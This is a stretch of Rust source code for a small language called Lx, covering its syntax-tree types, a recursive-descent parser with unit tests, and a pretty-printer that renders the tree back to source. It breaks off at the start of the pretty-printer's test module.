        assert!(Syscall::Exit.always_independent());
        assert!(!Syscall::Read.always_independent());
    }

    #[test]
    fn libdft_gap_is_a_strict_subset_of_libfns() {
        let unmodeled: Vec<_> = LibFn::ALL.iter().filter(|l| l.libdft_unmodeled()).collect();
        assert!(!unmodeled.is_empty());
        assert!(unmodeled.len() < LibFn::ALL.len());
    }

    #[test]
    fn arities_match_lookup() {
        for sys in Syscall::ALL {
            assert_eq!(builtin(sys.name()).unwrap().arity, sys.arity());
        }
        for lib in LibFn::ALL {
            assert_eq!(builtin(lib.name()).unwrap().arity, lib.arity());
        }
    }
}
