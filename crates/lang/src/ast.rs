//! Abstract syntax tree for Lx.

use crate::error::Span;
use std::fmt;

/// A complete Lx program: globals and functions, in source order.
#[derive(Debug, Clone, PartialEq)]
pub struct Program {
    items: Vec<Item>,
}

impl Program {
    /// Builds a program from its top-level items.
    pub fn new(items: Vec<Item>) -> Self {
        Program { items }
    }

    /// All top-level items in source order.
    pub fn items(&self) -> &[Item] {
        &self.items
    }

    /// Iterates over the program's function definitions.
    pub fn functions(&self) -> impl Iterator<Item = &Function> {
        self.items.iter().filter_map(|item| match item {
            Item::Function(f) => Some(f),
            Item::Global { .. } => None,
        })
    }

    /// Iterates over the program's global declarations as `(name, init)`.
    pub fn globals(&self) -> impl Iterator<Item = (&str, &Expr)> {
        self.items.iter().filter_map(|item| match item {
            Item::Global { name, init, .. } => Some((name.as_str(), init)),
            Item::Function(_) => None,
        })
    }

    /// Looks up a function definition by name.
    pub fn function(&self, name: &str) -> Option<&Function> {
        self.functions().find(|f| f.name == name)
    }
}

/// A top-level item.
#[derive(Debug, Clone, PartialEq)]
pub enum Item {
    /// `global name = <const expr>;`
    Global {
        /// The global's name.
        name: String,
        /// Its initializer (restricted to constants by the resolver).
        init: Expr,
        /// Source location of the declaration.
        span: Span,
    },
    /// `fn name(params) { ... }`
    Function(Function),
}

/// A function definition.
#[derive(Debug, Clone, PartialEq)]
pub struct Function {
    /// The function's name.
    pub name: String,
    /// Parameter names, in order.
    pub params: Vec<String>,
    /// The function body.
    pub body: Block,
    /// Source location of the `fn` keyword.
    pub span: Span,
}

/// A `{ ... }` block of statements.
#[derive(Debug, Clone, PartialEq, Default)]
pub struct Block {
    /// The statements, in order.
    pub stmts: Vec<Stmt>,
}

impl Block {
    /// Creates a block from statements.
    pub fn new(stmts: Vec<Stmt>) -> Self {
        Block { stmts }
    }
}

/// A statement with its source location.
#[derive(Debug, Clone, PartialEq)]
pub struct Stmt {
    /// What the statement does.
    pub kind: StmtKind,
    /// Source location of the statement's first token.
    pub span: Span,
}

/// The different statement forms.
#[derive(Debug, Clone, PartialEq)]
pub enum StmtKind {
    /// `let x = e;` — declares a function-scoped local.
    Let {
        /// The local's name.
        name: String,
        /// The initializer.
        init: Expr,
    },
    /// `lvalue = e;`
    Assign {
        /// The assignment target.
        target: LValue,
        /// The value assigned.
        value: Expr,
    },
    /// `if (c) { .. } else { .. }` (the `else` arm may be empty).
    If {
        /// The branch condition.
        cond: Expr,
        /// Statements executed when the condition is true.
        then_block: Block,
        /// Statements executed when the condition is false.
        else_block: Block,
    },
    /// `while (c) { .. }`
    While {
        /// The loop condition, evaluated before each iteration.
        cond: Expr,
        /// The loop body.
        body: Block,
    },
    /// `for (init; cond; step) { .. }` — desugared by the lowering stage
    /// into an equivalent `while` with the step appended to the body.
    For {
        /// The initialization statement (a `let` or assignment), if any.
        init: Option<Box<Stmt>>,
        /// The loop condition; `None` means always true.
        cond: Option<Expr>,
        /// The step statement, run after each iteration, if any.
        step: Option<Box<Stmt>>,
        /// The loop body.
        body: Block,
    },
    /// `return e;` or `return;`
    Return(Option<Expr>),
    /// `break;`
    Break,
    /// `continue;`
    Continue,
    /// An expression evaluated for its effects, e.g. `write(1, "x");`
    Expr(Expr),
}

/// An assignable place.
#[derive(Debug, Clone, PartialEq)]
pub enum LValue {
    /// A local, parameter, or global variable.
    Var(String),
    /// An element of an array variable: `a[i] = v;`
    Index {
        /// The array variable's name.
        name: String,
        /// The element index.
        index: Box<Expr>,
    },
}

/// An expression with its source location.
#[derive(Debug, Clone, PartialEq)]
pub struct Expr {
    /// What the expression computes.
    pub kind: ExprKind,
    /// Source location of the expression's first token.
    pub span: Span,
}

impl Expr {
    /// Creates an expression node.
    pub fn new(kind: ExprKind, span: Span) -> Self {
        Expr { kind, span }
    }

    /// Convenience constructor for integer literals in synthesized code.
    pub fn int(value: i64) -> Self {
        Expr::new(ExprKind::Int(value), Span::synthesized())
    }
}

/// The different expression forms.
#[derive(Debug, Clone, PartialEq)]
pub enum ExprKind {
    /// An integer literal.
    Int(i64),
    /// A string literal.
    Str(String),
    /// A variable reference (local, parameter, or global).
    Var(String),
    /// `&f` — a first-class reference to function `f`, used for indirect
    /// calls and as the `spawn` target.
    FuncRef(String),
    /// `[e, e, ...]` — an array literal.
    Array(Vec<Expr>),
    /// A unary operation.
    Unary {
        /// The operator.
        op: UnaryOp,
        /// The operand.
        operand: Box<Expr>,
    },
    /// A binary operation. `&&` and `||` short-circuit.
    Binary {
        /// The operator.
        op: BinaryOp,
        /// Left operand.
        lhs: Box<Expr>,
        /// Right operand.
        rhs: Box<Expr>,
    },
    /// `e[i]` — array or string indexing.
    Index {
        /// The indexed value.
        base: Box<Expr>,
        /// The element index.
        index: Box<Expr>,
    },
    /// `name(args)` — a direct call to a user function or builtin.
    Call {
        /// The callee's name.
        callee: String,
        /// Argument expressions, in order.
        args: Vec<Expr>,
    },
    /// `v(args)` where `v` holds a function reference — an indirect call.
    CallIndirect {
        /// The expression producing the function reference.
        callee: Box<Expr>,
        /// Argument expressions, in order.
        args: Vec<Expr>,
    },
}

/// Unary operators.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum UnaryOp {
    /// Arithmetic negation, `-e`.
    Neg,
    /// Logical negation, `!e`.
    Not,
}

impl fmt::Display for UnaryOp {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            UnaryOp::Neg => write!(f, "-"),
            UnaryOp::Not => write!(f, "!"),
        }
    }
}

/// Binary operators.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum BinaryOp {
    /// `+` — integer addition, or concatenation when either side is a string.
    Add,
    /// `-`
    Sub,
    /// `*`
    Mul,
    /// `/` (trapping on division by zero)
    Div,
    /// `%` (trapping on division by zero)
    Rem,
    /// `==`
    Eq,
    /// `!=`
    Ne,
    /// `<`
    Lt,
    /// `<=`
    Le,
    /// `>`
    Gt,
    /// `>=`
    Ge,
    /// `&&` (short-circuiting)
    And,
    /// `||` (short-circuiting)
    Or,
}

impl BinaryOp {
    /// Whether this operator short-circuits (and therefore introduces
    /// control flow during lowering).
    pub fn short_circuits(self) -> bool {
        matches!(self, BinaryOp::And | BinaryOp::Or)
    }
}

impl fmt::Display for BinaryOp {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            BinaryOp::Add => "+",
            BinaryOp::Sub => "-",
            BinaryOp::Mul => "*",
            BinaryOp::Div => "/",
            BinaryOp::Rem => "%",
            BinaryOp::Eq => "==",
            BinaryOp::Ne => "!=",
            BinaryOp::Lt => "<",
            BinaryOp::Le => "<=",
            BinaryOp::Gt => ">",
            BinaryOp::Ge => ">=",
            BinaryOp::And => "&&",
            BinaryOp::Or => "||",
        };
        write!(f, "{s}")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn program_accessors() {
        let f = Function {
            name: "main".into(),
            params: vec![],
            body: Block::default(),
            span: Span::new(1, 1),
        };
        let p = Program::new(vec![
            Item::Global {
                name: "g".into(),
                init: Expr::int(3),
                span: Span::new(1, 1),
            },
            Item::Function(f),
        ]);
        assert_eq!(p.functions().count(), 1);
        assert_eq!(p.globals().count(), 1);
        assert!(p.function("main").is_some());
        assert!(p.function("missing").is_none());
    }

    #[test]
    fn short_circuit_classification() {
        assert!(BinaryOp::And.short_circuits());
        assert!(BinaryOp::Or.short_circuits());
        assert!(!BinaryOp::Add.short_circuits());
        assert!(!BinaryOp::Eq.short_circuits());
    }

    #[test]
    fn operator_display() {
        assert_eq!(BinaryOp::Le.to_string(), "<=");
        assert_eq!(UnaryOp::Not.to_string(), "!");
    }
}
