//! Recursive-descent parser for Lx.

use crate::ast::{
    BinaryOp, Block, Expr, ExprKind, Function, Item, LValue, Program, Stmt, StmtKind, UnaryOp,
};
use crate::error::{LangError, Span};
use crate::token::{Token, TokenKind};

/// A recursive-descent parser over a lexed token stream.
#[derive(Debug)]
pub struct Parser {
    tokens: Vec<Token>,
    pos: usize,
}

impl Parser {
    /// Creates a parser over `tokens` (which must end with
    /// [`TokenKind::Eof`], as produced by [`crate::lex`]).
    pub fn new(tokens: Vec<Token>) -> Self {
        debug_assert!(matches!(
            tokens.last().map(|t| &t.kind),
            Some(TokenKind::Eof)
        ));
        Parser { tokens, pos: 0 }
    }

    /// Parses a complete program.
    ///
    /// # Errors
    ///
    /// Returns a [`LangError`] at the first syntax error.
    pub fn parse_program(mut self) -> Result<Program, LangError> {
        let mut items = Vec::new();
        while !self.at(&TokenKind::Eof) {
            items.push(self.item()?);
        }
        Ok(Program::new(items))
    }

    fn peek(&self) -> &Token {
        &self.tokens[self.pos.min(self.tokens.len() - 1)]
    }

    fn at(&self, kind: &TokenKind) -> bool {
        &self.peek().kind == kind
    }

    fn bump(&mut self) -> Token {
        let tok = self.tokens[self.pos.min(self.tokens.len() - 1)].clone();
        if self.pos < self.tokens.len() - 1 {
            self.pos += 1;
        }
        tok
    }

    fn eat(&mut self, kind: &TokenKind) -> bool {
        if self.at(kind) {
            self.bump();
            true
        } else {
            false
        }
    }

    fn expect(&mut self, kind: TokenKind) -> Result<Token, LangError> {
        if self.at(&kind) {
            Ok(self.bump())
        } else {
            let found = self.peek();
            Err(LangError::new(
                found.span,
                format!("expected {kind}, found {}", found.kind),
            ))
        }
    }

    fn ident(&mut self) -> Result<(String, Span), LangError> {
        let tok = self.bump();
        match tok.kind {
            TokenKind::Ident(name) => Ok((name, tok.span)),
            other => Err(LangError::new(
                tok.span,
                format!("expected identifier, found {other}"),
            )),
        }
    }

    fn item(&mut self) -> Result<Item, LangError> {
        let tok = self.peek().clone();
        match tok.kind {
            TokenKind::Fn => self.function().map(Item::Function),
            TokenKind::Global => {
                self.bump();
                let (name, span) = self.ident()?;
                self.expect(TokenKind::Assign)?;
                let init = self.expr()?;
                self.expect(TokenKind::Semi)?;
                Ok(Item::Global { name, init, span })
            }
            other => Err(LangError::new(
                tok.span,
                format!("expected `fn` or `global` at top level, found {other}"),
            )),
        }
    }

    fn function(&mut self) -> Result<Function, LangError> {
        let span = self.expect(TokenKind::Fn)?.span;
        let (name, _) = self.ident()?;
        self.expect(TokenKind::LParen)?;
        let mut params = Vec::new();
        if !self.at(&TokenKind::RParen) {
            loop {
                params.push(self.ident()?.0);
                if !self.eat(&TokenKind::Comma) {
                    break;
                }
            }
        }
        self.expect(TokenKind::RParen)?;
        let body = self.block()?;
        Ok(Function {
            name,
            params,
            body,
            span,
        })
    }

    fn block(&mut self) -> Result<Block, LangError> {
        self.expect(TokenKind::LBrace)?;
        let mut stmts = Vec::new();
        while !self.at(&TokenKind::RBrace) && !self.at(&TokenKind::Eof) {
            stmts.push(self.stmt()?);
        }
        self.expect(TokenKind::RBrace)?;
        Ok(Block::new(stmts))
    }

    fn stmt(&mut self) -> Result<Stmt, LangError> {
        let tok = self.peek().clone();
        let span = tok.span;
        match tok.kind {
            TokenKind::Let => {
                self.bump();
                let (name, _) = self.ident()?;
                self.expect(TokenKind::Assign)?;
                let init = self.expr()?;
                self.expect(TokenKind::Semi)?;
                Ok(Stmt {
                    kind: StmtKind::Let { name, init },
                    span,
                })
            }
            TokenKind::If => {
                self.bump();
                self.expect(TokenKind::LParen)?;
                let cond = self.expr()?;
                self.expect(TokenKind::RParen)?;
                let then_block = self.block()?;
                let else_block = if self.eat(&TokenKind::Else) {
                    if self.at(&TokenKind::If) {
                        // `else if` chains: wrap the nested if in a block.
                        let nested = self.stmt()?;
                        Block::new(vec![nested])
                    } else {
                        self.block()?
                    }
                } else {
                    Block::default()
                };
                Ok(Stmt {
                    kind: StmtKind::If {
                        cond,
                        then_block,
                        else_block,
                    },
                    span,
                })
            }
            TokenKind::While => {
                self.bump();
                self.expect(TokenKind::LParen)?;
                let cond = self.expr()?;
                self.expect(TokenKind::RParen)?;
                let body = self.block()?;
                Ok(Stmt {
                    kind: StmtKind::While { cond, body },
                    span,
                })
            }
            TokenKind::For => {
                self.bump();
                self.expect(TokenKind::LParen)?;
                let init = if self.at(&TokenKind::Semi) {
                    self.bump();
                    None
                } else {
                    let s = self.simple_stmt_no_semi()?;
                    self.expect(TokenKind::Semi)?;
                    Some(Box::new(s))
                };
                let cond = if self.at(&TokenKind::Semi) {
                    None
                } else {
                    Some(self.expr()?)
                };
                self.expect(TokenKind::Semi)?;
                let step = if self.at(&TokenKind::RParen) {
                    None
                } else {
                    Some(Box::new(self.simple_stmt_no_semi()?))
                };
                self.expect(TokenKind::RParen)?;
                let body = self.block()?;
                Ok(Stmt {
                    kind: StmtKind::For {
                        init,
                        cond,
                        step,
                        body,
                    },
                    span,
                })
            }
            TokenKind::Return => {
                self.bump();
                let value = if self.at(&TokenKind::Semi) {
                    None
                } else {
                    Some(self.expr()?)
                };
                self.expect(TokenKind::Semi)?;
                Ok(Stmt {
                    kind: StmtKind::Return(value),
                    span,
                })
            }
            TokenKind::Break => {
                self.bump();
                self.expect(TokenKind::Semi)?;
                Ok(Stmt {
                    kind: StmtKind::Break,
                    span,
                })
            }
            TokenKind::Continue => {
                self.bump();
                self.expect(TokenKind::Semi)?;
                Ok(Stmt {
                    kind: StmtKind::Continue,
                    span,
                })
            }
            _ => {
                let s = self.simple_stmt_no_semi()?;
                self.expect(TokenKind::Semi)?;
                Ok(s)
            }
        }
    }

    /// Parses an assignment, `let`, or expression statement without the
    /// trailing semicolon (used in `for` headers and regular statements).
    fn simple_stmt_no_semi(&mut self) -> Result<Stmt, LangError> {
        let span = self.peek().span;
        if self.at(&TokenKind::Let) {
            self.bump();
            let (name, _) = self.ident()?;
            self.expect(TokenKind::Assign)?;
            let init = self.expr()?;
            return Ok(Stmt {
                kind: StmtKind::Let { name, init },
                span,
            });
        }
        // Could be an assignment (`x = e`, `a[i] = e`) or an expression.
        let expr = self.expr()?;
        if self.at(&TokenKind::Assign) {
            let target = match expr.kind {
                ExprKind::Var(name) => LValue::Var(name),
                ExprKind::Index { base, index } => match base.kind {
                    ExprKind::Var(name) => LValue::Index { name, index },
                    _ => {
                        return Err(LangError::new(
                            expr.span,
                            "only variables and `var[index]` can be assigned",
                        ))
                    }
                },
                _ => {
                    return Err(LangError::new(
                        expr.span,
                        "only variables and `var[index]` can be assigned",
                    ))
                }
            };
            self.bump(); // `=`
            let value = self.expr()?;
            Ok(Stmt {
                kind: StmtKind::Assign { target, value },
                span,
            })
        } else {
            Ok(Stmt {
                kind: StmtKind::Expr(expr),
                span,
            })
        }
    }

    /// Entry point for expression parsing (lowest precedence: `||`).
    pub(crate) fn expr(&mut self) -> Result<Expr, LangError> {
        self.or_expr()
    }

    fn or_expr(&mut self) -> Result<Expr, LangError> {
        let mut lhs = self.and_expr()?;
        while self.at(&TokenKind::OrOr) {
            let span = self.bump().span;
            let rhs = self.and_expr()?;
            lhs = Expr::new(
                ExprKind::Binary {
                    op: BinaryOp::Or,
                    lhs: Box::new(lhs),
                    rhs: Box::new(rhs),
                },
                span,
            );
        }
        Ok(lhs)
    }

    fn and_expr(&mut self) -> Result<Expr, LangError> {
        let mut lhs = self.cmp_expr()?;
        while self.at(&TokenKind::AndAnd) {
            let span = self.bump().span;
            let rhs = self.cmp_expr()?;
            lhs = Expr::new(
                ExprKind::Binary {
                    op: BinaryOp::And,
                    lhs: Box::new(lhs),
                    rhs: Box::new(rhs),
                },
                span,
            );
        }
        Ok(lhs)
    }

    fn cmp_expr(&mut self) -> Result<Expr, LangError> {
        let lhs = self.add_expr()?;
        let op = match self.peek().kind {
            TokenKind::EqEq => BinaryOp::Eq,
            TokenKind::NotEq => BinaryOp::Ne,
            TokenKind::Lt => BinaryOp::Lt,
            TokenKind::Le => BinaryOp::Le,
            TokenKind::Gt => BinaryOp::Gt,
            TokenKind::Ge => BinaryOp::Ge,
            _ => return Ok(lhs),
        };
        let span = self.bump().span;
        let rhs = self.add_expr()?;
        Ok(Expr::new(
            ExprKind::Binary {
                op,
                lhs: Box::new(lhs),
                rhs: Box::new(rhs),
            },
            span,
        ))
    }

    fn add_expr(&mut self) -> Result<Expr, LangError> {
        let mut lhs = self.mul_expr()?;
        loop {
            let op = match self.peek().kind {
                TokenKind::Plus => BinaryOp::Add,
                TokenKind::Minus => BinaryOp::Sub,
                _ => return Ok(lhs),
            };
            let span = self.bump().span;
            let rhs = self.mul_expr()?;
            lhs = Expr::new(
                ExprKind::Binary {
                    op,
                    lhs: Box::new(lhs),
                    rhs: Box::new(rhs),
                },
                span,
            );
        }
    }

    fn mul_expr(&mut self) -> Result<Expr, LangError> {
        let mut lhs = self.unary_expr()?;
        loop {
            let op = match self.peek().kind {
                TokenKind::Star => BinaryOp::Mul,
                TokenKind::Slash => BinaryOp::Div,
                TokenKind::Percent => BinaryOp::Rem,
                _ => return Ok(lhs),
            };
            let span = self.bump().span;
            let rhs = self.unary_expr()?;
            lhs = Expr::new(
                ExprKind::Binary {
                    op,
                    lhs: Box::new(lhs),
                    rhs: Box::new(rhs),
                },
                span,
            );
        }
    }

    fn unary_expr(&mut self) -> Result<Expr, LangError> {
        let tok = self.peek().clone();
        match tok.kind {
            TokenKind::Minus => {
                self.bump();
                let operand = self.unary_expr()?;
                Ok(Expr::new(
                    ExprKind::Unary {
                        op: UnaryOp::Neg,
                        operand: Box::new(operand),
                    },
                    tok.span,
                ))
            }
            TokenKind::Bang => {
                self.bump();
                let operand = self.unary_expr()?;
                Ok(Expr::new(
                    ExprKind::Unary {
                        op: UnaryOp::Not,
                        operand: Box::new(operand),
                    },
                    tok.span,
                ))
            }
            TokenKind::Amp => {
                self.bump();
                let (name, _) = self.ident()?;
                Ok(Expr::new(ExprKind::FuncRef(name), tok.span))
            }
            _ => self.postfix_expr(),
        }
    }

    fn postfix_expr(&mut self) -> Result<Expr, LangError> {
        let mut expr = self.primary_expr()?;
        loop {
            if self.at(&TokenKind::LBracket) {
                let span = self.bump().span;
                let index = self.expr()?;
                self.expect(TokenKind::RBracket)?;
                expr = Expr::new(
                    ExprKind::Index {
                        base: Box::new(expr),
                        index: Box::new(index),
                    },
                    span,
                );
            } else if self.at(&TokenKind::LParen) {
                // Indirect call on a non-name expression; direct calls are
                // produced in `primary_expr`.
                let span = self.bump().span;
                let args = self.call_args()?;
                expr = Expr::new(
                    ExprKind::CallIndirect {
                        callee: Box::new(expr),
                        args,
                    },
                    span,
                );
            } else {
                return Ok(expr);
            }
        }
    }

    fn call_args(&mut self) -> Result<Vec<Expr>, LangError> {
        let mut args = Vec::new();
        if !self.at(&TokenKind::RParen) {
            loop {
                args.push(self.expr()?);
                if !self.eat(&TokenKind::Comma) {
                    break;
                }
            }
        }
        self.expect(TokenKind::RParen)?;
        Ok(args)
    }

    fn primary_expr(&mut self) -> Result<Expr, LangError> {
        let tok = self.bump();
        let span = tok.span;
        match tok.kind {
            TokenKind::Int(v) => Ok(Expr::new(ExprKind::Int(v), span)),
            TokenKind::True => Ok(Expr::new(ExprKind::Int(1), span)),
            TokenKind::False => Ok(Expr::new(ExprKind::Int(0), span)),
            TokenKind::Str(s) => Ok(Expr::new(ExprKind::Str(s), span)),
            TokenKind::Ident(name) => {
                if self.at(&TokenKind::LParen) {
                    self.bump();
                    let args = self.call_args()?;
                    Ok(Expr::new(ExprKind::Call { callee: name, args }, span))
                } else {
                    Ok(Expr::new(ExprKind::Var(name), span))
                }
            }
            TokenKind::LParen => {
                let inner = self.expr()?;
                self.expect(TokenKind::RParen)?;
                Ok(inner)
            }
            TokenKind::LBracket => {
                let mut elems = Vec::new();
                if !self.at(&TokenKind::RBracket) {
                    loop {
                        elems.push(self.expr()?);
                        if !self.eat(&TokenKind::Comma) {
                            break;
                        }
                    }
                }
                self.expect(TokenKind::RBracket)?;
                Ok(Expr::new(ExprKind::Array(elems), span))
            }
            other => Err(LangError::new(
                span,
                format!("expected expression, found {other}"),
            )),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::parse;

    #[test]
    fn parses_empty_main() {
        let p = parse("fn main() {}").unwrap();
        let f = p.function("main").unwrap();
        assert!(f.params.is_empty());
        assert!(f.body.stmts.is_empty());
    }

    #[test]
    fn parses_globals_and_functions() {
        let p = parse("global g = 10; fn f(a, b) { return a + b; }").unwrap();
        assert_eq!(p.globals().count(), 1);
        let f = p.function("f").unwrap();
        assert_eq!(f.params, vec!["a", "b"]);
    }

    #[test]
    fn precedence_mul_over_add() {
        let p = parse("fn m() { let x = 1 + 2 * 3; }").unwrap();
        let f = p.function("m").unwrap();
        let StmtKind::Let { init, .. } = &f.body.stmts[0].kind else {
            panic!("expected let");
        };
        let ExprKind::Binary { op, rhs, .. } = &init.kind else {
            panic!("expected binary");
        };
        assert_eq!(*op, BinaryOp::Add);
        assert!(matches!(
            rhs.kind,
            ExprKind::Binary {
                op: BinaryOp::Mul,
                ..
            }
        ));
    }

    #[test]
    fn precedence_and_over_or() {
        let p = parse("fn m() { let x = 1 || 0 && 0; }").unwrap();
        let f = p.function("m").unwrap();
        let StmtKind::Let { init, .. } = &f.body.stmts[0].kind else {
            panic!()
        };
        assert!(matches!(
            init.kind,
            ExprKind::Binary {
                op: BinaryOp::Or,
                ..
            }
        ));
    }

    #[test]
    fn parses_if_else_chain() {
        let p = parse(
            r#"fn m(x) {
                if (x == 1) { return 1; }
                else if (x == 2) { return 2; }
                else { return 3; }
            }"#,
        )
        .unwrap();
        let f = p.function("m").unwrap();
        let StmtKind::If { else_block, .. } = &f.body.stmts[0].kind else {
            panic!()
        };
        assert_eq!(else_block.stmts.len(), 1);
        assert!(matches!(else_block.stmts[0].kind, StmtKind::If { .. }));
    }

    #[test]
    fn parses_for_loop_full_and_degenerate() {
        let p =
            parse("fn m(n) { for (let i = 0; i < n; i = i + 1) { write(1, str(i)); } }").unwrap();
        let f = p.function("m").unwrap();
        let StmtKind::For {
            init, cond, step, ..
        } = &f.body.stmts[0].kind
        else {
            panic!()
        };
        assert!(init.is_some() && cond.is_some() && step.is_some());

        let p = parse("fn m() { for (;;) { break; } }").unwrap();
        let f = p.function("m").unwrap();
        let StmtKind::For {
            init, cond, step, ..
        } = &f.body.stmts[0].kind
        else {
            panic!()
        };
        assert!(init.is_none() && cond.is_none() && step.is_none());
    }

    #[test]
    fn parses_indexed_assignment() {
        let p = parse("fn m(a) { a[3] = 7; }").unwrap();
        let f = p.function("m").unwrap();
        assert!(matches!(
            &f.body.stmts[0].kind,
            StmtKind::Assign {
                target: LValue::Index { .. },
                ..
            }
        ));
    }

    #[test]
    fn rejects_assignment_to_call() {
        let err = parse("fn m() { f() = 3; }").unwrap_err();
        assert!(err.message().contains("assigned"));
    }

    #[test]
    fn parses_function_reference_and_indirect_call() {
        let p = parse("fn m(h) { let f = &h2; let r = f(1, 2); }").unwrap();
        let f = p.function("m").unwrap();
        let StmtKind::Let { init, .. } = &f.body.stmts[0].kind else {
            panic!()
        };
        assert!(matches!(init.kind, ExprKind::FuncRef(_)));
        let StmtKind::Let { init, .. } = &f.body.stmts[1].kind else {
            panic!()
        };
        // `f(1, 2)` where f is a local parses as a *direct* Call node; the
        // resolver reclassifies it as indirect when `f` is not a function.
        assert!(matches!(init.kind, ExprKind::Call { .. }));
    }

    #[test]
    fn parses_parenthesized_indirect_call() {
        let p = parse("fn m(f) { (f)(3); }").unwrap();
        let fun = p.function("m").unwrap();
        let StmtKind::Expr(e) = &fun.body.stmts[0].kind else {
            panic!()
        };
        assert!(matches!(e.kind, ExprKind::CallIndirect { .. }));
    }

    #[test]
    fn parses_array_literal_and_indexing() {
        let p = parse("fn m() { let a = [1, 2, 3]; let x = a[0]; }").unwrap();
        let f = p.function("m").unwrap();
        let StmtKind::Let { init, .. } = &f.body.stmts[0].kind else {
            panic!()
        };
        assert!(matches!(&init.kind, ExprKind::Array(v) if v.len() == 3));
    }

    #[test]
    fn true_false_are_int_sugar() {
        let p = parse("fn m() { let a = true; let b = false; }").unwrap();
        let f = p.function("m").unwrap();
        let StmtKind::Let { init, .. } = &f.body.stmts[0].kind else {
            panic!()
        };
        assert_eq!(init.kind, ExprKind::Int(1));
    }

    #[test]
    fn error_mentions_expected_token() {
        let err = parse("fn main( { }").unwrap_err();
        assert!(err.message().contains("expected"));
    }

    #[test]
    fn rejects_stray_top_level_tokens() {
        assert!(parse("let x = 3;").is_err());
    }

    #[test]
    fn nested_loops_and_breaks() {
        let src = r#"
            fn m(n, m2) {
                for (let i = 0; i < n; i = i + 1) {
                    let j = 0;
                    while (j < m2) {
                        if (j == 3) { break; }
                        j = j + 1;
                    }
                }
            }
        "#;
        assert!(parse(src).is_ok());
    }
}
