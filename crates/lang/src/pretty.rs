//! Pretty-printer: renders an AST back to parseable Lx source.
//!
//! Used by tests (round-trip checking) and by diagnostics in higher layers.

use crate::ast::{Block, Expr, ExprKind, Item, LValue, Program, Stmt, StmtKind};
use std::fmt::Write as _;

/// Renders a program as Lx source text that re-parses to an equal AST.
pub fn to_source(program: &Program) -> String {
    let mut out = String::new();
    for item in program.items() {
        match item {
            Item::Global { name, init, .. } => {
                let _ = writeln!(out, "global {name} = {};", expr_str(init));
            }
            Item::Function(f) => {
                let _ = writeln!(out, "fn {}({}) {{", f.name, f.params.join(", "));
                block_body(&mut out, &f.body, 1);
                out.push_str("}\n");
            }
        }
    }
    out
}

fn indent(out: &mut String, level: usize) {
    for _ in 0..level {
        out.push_str("    ");
    }
}

fn block_body(out: &mut String, block: &Block, level: usize) {
    for stmt in &block.stmts {
        stmt_str(out, stmt, level);
    }
}

fn stmt_str(out: &mut String, stmt: &Stmt, level: usize) {
    indent(out, level);
    match &stmt.kind {
        StmtKind::Let { name, init } => {
            let _ = writeln!(out, "let {name} = {};", expr_str(init));
        }
        StmtKind::Assign { target, value } => {
            let t = match target {
                LValue::Var(n) => n.clone(),
                LValue::Index { name, index } => format!("{name}[{}]", expr_str(index)),
            };
            let _ = writeln!(out, "{t} = {};", expr_str(value));
        }
        StmtKind::If {
            cond,
            then_block,
            else_block,
        } => {
            let _ = writeln!(out, "if ({}) {{", expr_str(cond));
            block_body(out, then_block, level + 1);
            if else_block.stmts.is_empty() {
                indent(out, level);
                out.push_str("}\n");
            } else {
                indent(out, level);
                out.push_str("} else {\n");
                block_body(out, else_block, level + 1);
                indent(out, level);
                out.push_str("}\n");
            }
        }
        StmtKind::While { cond, body } => {
            let _ = writeln!(out, "while ({}) {{", expr_str(cond));
            block_body(out, body, level + 1);
            indent(out, level);
            out.push_str("}\n");
        }
        StmtKind::For {
            init,
            cond,
            step,
            body,
        } => {
            out.push_str("for (");
            if let Some(i) = init {
                inline_simple_stmt(out, i);
            }
            out.push_str("; ");
            if let Some(c) = cond {
                out.push_str(&expr_str(c));
            }
            out.push_str("; ");
            if let Some(s) = step {
                inline_simple_stmt(out, s);
            }
            out.push_str(") {\n");
            block_body(out, body, level + 1);
            indent(out, level);
            out.push_str("}\n");
        }
        StmtKind::Return(Some(e)) => {
            let _ = writeln!(out, "return {};", expr_str(e));
        }
        StmtKind::Return(None) => out.push_str("return;\n"),
        StmtKind::Break => out.push_str("break;\n"),
        StmtKind::Continue => out.push_str("continue;\n"),
        StmtKind::Expr(e) => {
            let _ = writeln!(out, "{};", expr_str(e));
        }
    }
}

fn inline_simple_stmt(out: &mut String, stmt: &Stmt) {
    match &stmt.kind {
        StmtKind::Let { name, init } => {
            let _ = write!(out, "let {name} = {}", expr_str(init));
        }
        StmtKind::Assign { target, value } => {
            let t = match target {
                LValue::Var(n) => n.clone(),
                LValue::Index { name, index } => format!("{name}[{}]", expr_str(index)),
            };
            let _ = write!(out, "{t} = {}", expr_str(value));
        }
        StmtKind::Expr(e) => {
            let _ = write!(out, "{}", expr_str(e));
        }
        other => {
            // `for` headers can only contain simple statements by grammar.
            unreachable!("non-simple statement in for header: {other:?}")
        }
    }
}

fn escape(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    for c in s.chars() {
        match c {
            '\n' => out.push_str("\\n"),
            '\t' => out.push_str("\\t"),
            '\r' => out.push_str("\\r"),
            '\\' => out.push_str("\\\\"),
            '"' => out.push_str("\\\""),
            '\0' => out.push_str("\\0"),
            c => out.push(c),
        }
    }
    out
}

/// Renders an expression (fully parenthesized, so precedence is preserved).
pub fn expr_str(e: &Expr) -> String {
    match &e.kind {
        ExprKind::Int(v) => v.to_string(),
        ExprKind::Str(s) => format!("\"{}\"", escape(s)),
        ExprKind::Var(n) => n.clone(),
        ExprKind::FuncRef(n) => format!("&{n}"),
        ExprKind::Array(elems) => {
            let inner: Vec<_> = elems.iter().map(expr_str).collect();
            format!("[{}]", inner.join(", "))
        }
        ExprKind::Unary { op, operand } => format!("({op}{})", expr_str(operand)),
        ExprKind::Binary { op, lhs, rhs } => {
            format!("({} {op} {})", expr_str(lhs), expr_str(rhs))
        }
        ExprKind::Index { base, index } => format!("{}[{}]", expr_str(base), expr_str(index)),
        ExprKind::Call { callee, args } => {
            let inner: Vec<_> = args.iter().map(expr_str).collect();
            format!("{callee}({})", inner.join(", "))
        }
        ExprKind::CallIndirect { callee, args } => {
            let inner: Vec<_> = args.iter().map(expr_str).collect();
            format!("({})({})", expr_str(callee), inner.join(", "))
        }
    }
}

#[cfg(test)]
mod tests {
